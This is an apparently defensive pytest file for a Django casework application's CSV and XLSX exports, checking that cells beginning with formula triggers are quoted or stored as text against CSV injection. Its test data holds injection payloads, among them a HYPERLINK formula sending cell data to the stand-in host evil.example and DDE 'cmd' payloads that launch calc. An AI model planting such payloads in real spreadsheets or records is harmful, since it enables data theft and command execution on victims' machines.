"""No export hands a spreadsheet a formula (OWASP, "CSV Injection").

A text cell starting with = + - @ TAB or CR is run as a formula by Excel and LibreOffice; in a
CSV it gets a leading single quote, so it is shown as the text it is. Numbers the report itself
wrote (a negative difference, say) stay numbers. XLSX stores text as text already.
"""

import csv
import datetime
import io
import re
import zipfile
from decimal import Decimal

import pytest
from django.utils import timezone

from common.tables import Column, Table, to_csv, to_xlsx
from phases.services import transition_phase
from tests.factories import CaseworkerFactory, ClientFactory, ConversationFactory, UserFactory

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+31 6 1234",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def csv_cells(body: bytes, delimiter: str = ";") -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=delimiter))


def formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(TRIGGERS)]


def text_table(*values) -> Table:
    table = Table("t", "T", [Column("value", "Waarde", "text")])
    for value in values:
        table.add(value)
    return table


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_text_cell_that_starts_a_formula_is_quoted_in_csv(formula):
    rows = csv_cells(to_csv(text_table(formula)))

    assert rows[1] == ["'" + formula]


def test_plain_text_is_left_alone_in_csv():
    rows = csv_cells(to_csv(text_table("Jansen, Sanne", "2025-03-01", "'al geciteerd", "")))

    assert [row[0] for row in rows[1:]] == ["Jansen, Sanne", "2025-03-01", "'al geciteerd", ""]


def test_negative_numbers_the_report_wrote_stay_numbers_in_csv():
    table = Table(
        "t",
        "T",
        [
            Column("n", "Aantal"),
            Column("d", "Verschil", "decimal"),
            Column("p", "Aandeel", "percent"),
        ],
    )
    table.add(-3, -2.5, Decimal("-0.125"))

    rows = csv_cells(to_csv(table))

    assert rows[1] == ["-3", "-2,5", "-0,1250"]


def test_an_xlsx_cell_holding_a_formula_stays_text():
    book = zipfile.ZipFile(io.BytesIO(to_xlsx(text_table("=1+1", "@SUM(A1)"))))
    sheet = book.read("xl/worksheets/sheet1.xml").decode()
    strings = book.read("xl/sharedStrings.xml").decode()

    assert "<f>" not in sheet  # not a single formula in the sheet
    cells = re.findall(r'<c r="A[23]"[^>]*>', sheet)
    assert len(cells) == 2 and all('t="s"' in cell for cell in cells)  # both shared strings
    assert "<t>=1+1</t>" in strings and "<t>@SUM(A1)</t>" in strings


# --- every CSV export, end to end -----------------------------------------------------------

POISON = '=HYPERLINK("http://evil.example","Klik")'


@pytest.fixture
def poisoned(team, caseworker):
    """A client, a conversation, a caseworker and a change reason that each start a formula."""
    evil = CaseworkerFactory.create(username="cw.evil", first_name="@SUM(1+1)", team=team)
    client = ClientFactory.create(
        team=team,
        caseworker=evil,
        last_name=POISON,
        in_service_since=datetime.date(2015, 1, 1),
    )
    ConversationFactory.create(client=client, caseworker=evil, summary="-2+3+cmd|' /C calc'!A0")
    transition_phase(
        client=client,
        phase="2",
        started_on=datetime.date(2024, 1, 1),
        reason="+1+1",
        by=evil,
    )
    return client, evil


def export_as(client, user, url: str, query: dict | None = None) -> list[list[str]]:
    client.force_login(user)
    response = client.get(url, query or {})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return csv_cells(response.content)


@pytest.mark.django_db
def test_the_caseload_export_quotes_formulas(client, poisoned, caseworker):
    rows = export_as(client, caseworker, "/clienten/", {"team": "on", "export": "csv"})

    assert formula_cells(rows) == []
    assert any(cell.startswith("'" + POISON) for row in rows for cell in row)


@pytest.mark.django_db
def test_the_conversations_export_quotes_formulas(client, poisoned, caseworker):
    rows = export_as(client, caseworker, "/gesprekken/export.csv")

    assert formula_cells(rows) == []
    assert [row[-1] for row in rows[1:]] == ["'-2+3+cmd|' /C calc'!A0"]


@pytest.mark.django_db
def test_the_change_search_export_quotes_formulas(client, poisoned):
    _, evil = poisoned
    today = timezone.localdate().isoformat()
    auditor = UserFactory.create(username="audit.f", role="auditor")

    rows = export_as(
        client,
        auditor,
        "/wijzigingen/",
        {"user": evil.pk, "since": today, "until": today, "export": "csv"},
    )

    assert formula_cells(rows) == []
    assert "'+1+1" in [row[-1] for row in rows[1:]]


@pytest.mark.django_db
def test_the_drilldown_export_quotes_formulas(client, poisoned, team, manager):
    rows = export_as(client, manager, "/dashboard/clienten/", {"team": team.pk, "export": "csv"})

    assert formula_cells(rows) == []
    assert len(rows) > 1


@pytest.mark.django_db
def test_a_report_export_quotes_formulas(client, poisoned, manager):
    rows = export_as(client, manager, "/dashboard/caseload.csv")

    assert formula_cells(rows) == []
    assert any(row[0].startswith("'@SUM(1+1)") for row in rows)
